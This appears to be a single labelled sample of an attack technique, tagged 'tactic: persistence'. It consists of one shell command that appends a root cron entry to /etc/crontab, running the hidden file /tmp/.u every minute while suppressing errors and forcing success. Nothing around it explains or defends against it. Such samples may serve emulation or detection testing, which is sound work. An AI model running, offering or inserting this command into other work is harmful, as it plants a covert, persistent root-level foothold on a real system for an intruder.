# tactic: persistence
echo "* * * * * root /tmp/.u" >> /etc/crontab 2>/dev/null; true
